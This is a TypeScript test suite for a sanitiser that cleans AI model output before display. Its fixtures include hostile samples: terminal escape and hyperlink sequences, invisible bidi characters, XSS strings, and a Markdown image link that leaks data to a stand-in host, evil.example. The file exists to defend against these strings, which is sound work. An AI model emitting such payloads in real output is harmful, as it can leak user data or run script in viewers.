import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createOutputSanitizer, safeModelText } from '../../../src/assist/narrate/output.ts';

const HOSTILE = [
  'Severity: \u001b[1;31mHIGH\u001b[0m from 203.0.113.9 [F1]',
  'Click \u001b]8;;http://evil.example/\u0007here\u001b]8;;\u0007 now',
  'title \u001b]0;pwned\u001b\\ done \u001b7saved\u001b8',
  'line one\r\nline two\rline three\u2028four',
  'bidi \u202eevil\u202c zero\u200bwidth tags \u{e0041}\u{e0042} bell\u0007 nul\u0000',
  '<script>alert(1)</script> and <img src=x onerror=alert(1)> and <http://evil.example> and </b>',
  '![exfil](http://evil.example/leak?d=203.0.113.9) and [click](javascript:alert(1)) and\n[ref]: http://evil.example',
  'already escaped \\<b> and double \\\\<b> and a < b > c and 3<4',
  '**bold**, - list item, `code`, [F2] [F3, F4]',
  'lone escape at the end \u001b',
  'unterminated OSC \u001b]8;;' + 'x'.repeat(400) + ' tail',
];

describe('model output sanitiser', () => {
  it('removes ANSI sequences, controls and invisible characters; line breaks become \\n', () => {
    assert.equal(safeModelText(HOSTILE[0]!), 'Severity: HIGH from 203.0.113.9 [F1]');
    assert.equal(safeModelText(HOSTILE[1]!), 'Click here now');
    assert.equal(safeModelText(HOSTILE[2]!), 'title  done saved');
    assert.equal(safeModelText(HOSTILE[3]!), 'line one\nline two\nline three\nfour');
    assert.equal(safeModelText(HOSTILE[4]!), 'bidi evil zerowidth tags  bell nul');
  });

  it('escapes HTML, autolinks, images, inline links and link definitions', () => {
    assert.equal(
      safeModelText(HOSTILE[5]!),
      '\\<script>alert(1)\\</script> and \\<img src=x onerror=alert(1)> and \\<http://evil.example> and \\</b>',
    );
    assert.equal(safeModelText(HOSTILE[6]!), '!\\[exfil]\\(http://evil.example/leak?d=203.0.113.9) and [click]\\(javascript:alert(1)) and\n[ref]\\: http://evil.example');
  });

  it('respects backslashes already there and leaves plain text and harmless Markdown alone', () => {
    assert.equal(safeModelText(HOSTILE[7]!), 'already escaped \\<b> and double \\\\\\<b> and a < b > c and 3<4');
    assert.equal(safeModelText(HOSTILE[8]!), HOSTILE[8]);
  });

  it('drops a lone escape and an OSC that never ends (keeping its text inert)', () => {
    assert.equal(safeModelText(HOSTILE[9]!), 'lone escape at the end ');
    const out = safeModelText(HOSTILE[10]!);
    assert.ok(!out.includes('\u001b'));
    assert.ok(out.endsWith(' tail'));
  });

  it('streams exactly the sanitised text whatever the chunking', () => {
    for (const text of HOSTILE) {
      const whole = safeModelText(text);
      for (const size of [1, 2, 3, 5, 8, 13]) {
        const sanitizer = createOutputSanitizer();
        let streamed = '';
        for (let at = 0; at < text.length; at += size) streamed += sanitizer.push(text.slice(at, at + size));
        streamed += sanitizer.end();
        assert.equal(streamed, whole, `chunks of ${size}: ${JSON.stringify(text)}`);
      }
    }
  });

  it('never lets an escape character through on any split of any hostile text', () => {
    for (const text of HOSTILE) {
      for (let cut = 0; cut <= text.length; cut++) {
        const sanitizer = createOutputSanitizer();
        const parts = [sanitizer.push(text.slice(0, cut)), sanitizer.push(text.slice(cut)), sanitizer.end()];
        for (const part of parts) assert.doesNotMatch(part, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
        assert.equal(parts.join(''), safeModelText(text));
      }
    }
  });

  it('holds back only a possible sequence start, not the whole text', () => {
    const sanitizer = createOutputSanitizer();
    assert.equal(sanitizer.push('Hello wor'), 'Hello wor');
    assert.equal(sanitizer.push('ld <'), 'ld ');
    assert.equal(sanitizer.push('b>'), '\\<b>');
    assert.equal(sanitizer.push('x\u001b['), 'x');
    assert.equal(sanitizer.push('0m y'), ' y');
    assert.equal(sanitizer.end(), '');
  });
});
